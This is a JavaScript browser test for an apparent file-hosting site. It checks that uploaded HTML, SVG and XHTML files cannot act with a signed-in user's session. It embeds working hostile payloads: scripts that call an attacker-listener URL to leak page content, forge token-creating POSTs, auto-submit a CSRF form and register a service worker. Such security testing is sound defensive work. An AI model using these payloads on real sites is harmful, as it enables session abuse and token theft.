// What a feed serves can do nothing to the pages, though both share one
// origin: files that were pushed, opened by a person who is signed in.
'use strict';

const assert = require('node:assert/strict');
const http = require('node:http');
const { after, before, describe, test } = require('node:test');
const { launch } = require('../lib/chromium');
const { newPage, signIn } = require('../lib/person');
const { startSite } = require('../lib/site');

let site;
let browser;
let listener; // the attacker's own server
let page; // demo, signed in, also to the feed
const heard = []; // addresses that the listener was asked for
const posted = []; // requests of the page that are no GET

// All that a script can try: to be heard, to read a page of the site, to make
// a token, to stay.
const script = () => `
  document.title = 'ran';
  new Image().src = '${listener.url}/ran';
  fetch('/profile/tokens').then((got) => got.text()).then((text) =>
    fetch('${listener.url}/read?' + text.length));
  fetch('/profile/tokens', { method: 'POST', body:
    new URLSearchParams({ description: 'evil', read: 'on' }) });
  navigator.serviceWorker?.register('/F/demo/evil.js', { scope: '/' });
  addEventListener('load', () => document.forms[0]?.submit());`;

const form = `
  <form method="post" action="/profile/tokens">
    <input name="description" value="evil"><input name="read" value="on">
    <button id="send">Your package</button>
  </form>`;

const files = () => ({
  'evil.js': ['text/javascript', script()],
  'evil.html': ['text/html', `<!DOCTYPE html><title>quiet</title>
    <p>A package</p><img src="${listener.url}/picture">${form}
    <script>${script()}</script><script src="evil.js"></script>
    <img src="none" onerror="document.title = 'ran'">
    <a id="link" href="javascript:document.title = 'ran'">More</a>
    <iframe id="frame" src="/profile/tokens"></iframe>`],
  'evil.svg': ['image/svg+xml',
    `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="300"
      onload="document.title = 'ran'"><title>quiet</title>
      <image href="${listener.url}/picture" width="9" height="9"/>
      <a id="link" href="javascript:document.title = 'ran'">
        <rect width="99" height="99"/></a>
      <foreignObject y="100" width="300" height="200"><body
        xmlns="http://www.w3.org/1999/xhtml">${
  form.replace('value="on">', 'value="on"/>')
    .replace('value="evil">', 'value="evil"/>')}</body></foreignObject>
      <script><![CDATA[${script()}]]></script></svg>`],
  'evil.xhtml': ['application/xhtml+xml',
    `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>quiet</title>
      </head><body><p>A package</p><img src="${listener.url}/picture"/>${
  form.replace('value="on">', 'value="on"/>')
    .replace('value="evil">', 'value="evil"/>')}
      <a id="link" href="javascript:document.title = 'ran'">More</a>
      <script><![CDATA[${script()}]]></script></body></html>`],
});

function startListener() {
  const server = http.createServer((request, response) => {
    heard.push(request.url);
    response.setHeader('Access-Control-Allow-Origin', '*');
    const [type, body] = files()[request.url.slice(1)]
      ?? ['text/plain', 'heard'];
    response.setHeader('Content-Type', type);
    response.end(body);
  });
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      server.url = `http://127.0.0.1:${server.address().port}`;
      resolve(server);
    });
  });
}

before(async () => {
  [site, browser, listener] =
    await Promise.all([startSite(), launch(), startListener()]);
  for (const [name, [, body]] of Object.entries(files())) {
    const pushed = await site.request(`/F/demo/${name}`, { method: 'PUT', body,
      headers: { Authorization: `Bearer ${site.value}` } });
    assert.equal(pushed.status, 201, name);
  }
  page = await newPage(browser, site, {
    httpCredentials: { username: 'demo', password: site.value } });
  page.on('request', (request) => {
    if (request.method() !== 'GET') posted.push(request.url());
  });
  await signIn(page, 'demo', site.password);
});

after(async () => {
  await browser?.close();
  await site?.stop();
  listener?.closeAllConnections();
  listener?.close();
});

// All that the file's form could change. Fetching the file is a use of the
// primary token, and of no other.
async function tokens() {
  const list = await site.json('token', 'list', 'demo');
  return JSON.stringify(list.map((token) => Object.entries(token)
    .filter(([name]) => !token.primary
      || (name !== 'uses' && !name.startsWith('last_used')))));
}

// Opens it and does what a person does who was asked to click.
async function openAndClick(address) {
  heard.length = 0;
  posted.length = 0;
  const answer = await page.goto(address);
  await page.waitForLoadState('networkidle');
  await page.locator('#link').click();
  await page.locator('#send').click();
  await page.waitForLoadState('networkidle');
  return answer;
}

// First, that the files do harm where nothing holds them.
test('elsewhere such a file does what it says', async () => {
  for (const name of ['evil.html', 'evil.svg', 'evil.xhtml']) {
    heard.length = 0;
    posted.length = 0;
    await Promise.all([
      page.waitForRequest((one) => one.method() === 'POST'
        && one.isNavigationRequest()),
      page.goto(`${listener.url}/${name}`).catch(() => {}), // it leaves at once
    ]);
    await page.waitForLoadState('networkidle');
    assert.ok(heard.includes('/picture'), name);
    assert.ok(heard.includes('/ran'), name);
    assert.ok(posted.includes(`${listener.url}/profile/tokens`), name);
  }
});

describe('opened by a person who is signed in,', () => {
  for (const name of ['evil.html', 'evil.svg', 'evil.xhtml']) {
    test(`${name} runs nothing, reads nothing, sends nothing`, async () => {
      const was = await tokens();
      const answer = await openAndClick(`/F/demo/${name}`);
      assert.equal(answer.status(), 200);
      // It was opened as what it is, and its picture had.
      assert.equal(answer.headers()['content-type'].split(';')[0],
        files()[name][0]);
      assert.equal(await page.title(), 'quiet');
      assert.deepEqual(heard, ['/picture']);
      assert.deepEqual(posted, []);
      assert.equal(page.url(), `${site.url}/F/demo/${name}`);
      assert.equal(await tokens(), was);
    });
  }

  test('it gets no frame with a page of the site', async () => {
    await page.goto('/F/demo/evil.html');
    await page.waitForLoadState('networkidle');
    const [, frame] = page.frames();
    assert.ok(frame);
    assert.equal(await frame.locator('[data-token-id]').count(), 0);
    assert.doesNotMatch(await frame.content(), /csrf_token/);
  });

  test('it is of another origin than the site', async () => {
    await page.goto('/F/demo/evil.html');
    assert.equal(await page.evaluate(() => window.origin), 'null');
    await assert.rejects(page.evaluate(() => document.cookie),
      /sandbox/);
    await assert.rejects(page.evaluate(() => localStorage.length),
      /sandbox/);
    await assert.rejects(page.evaluate(() =>
      navigator.serviceWorker.register('/F/demo/evil.js')), /sandbox/);
    // Even a script that somehow ran would be a stranger.
    const got = await page.evaluate(() => fetch('/profile/tokens',
      { credentials: 'include' }).then((one) => one.text(), () => 'rejected'));
    assert.equal(got, 'rejected');
  });

  test('the session still stands', async () => {
    await page.goto('/profile/tokens');
    assert.equal(await page.locator('[data-token-id]').count(), 1);
  });
});

test('a picture that is looked at from a page of the site runs nothing',
  async () => {
    await page.goto('/profile/tokens');
    heard.length = 0;
    await page.evaluate(() => new Promise((done) => {
      const image = new Image();
      image.onload = done;
      image.onerror = done;
      image.src = '/F/demo/evil.svg';
      document.body.append(image);
    }));
    assert.notEqual(await page.title(), 'ran');
    assert.deepEqual(heard, []);
  });
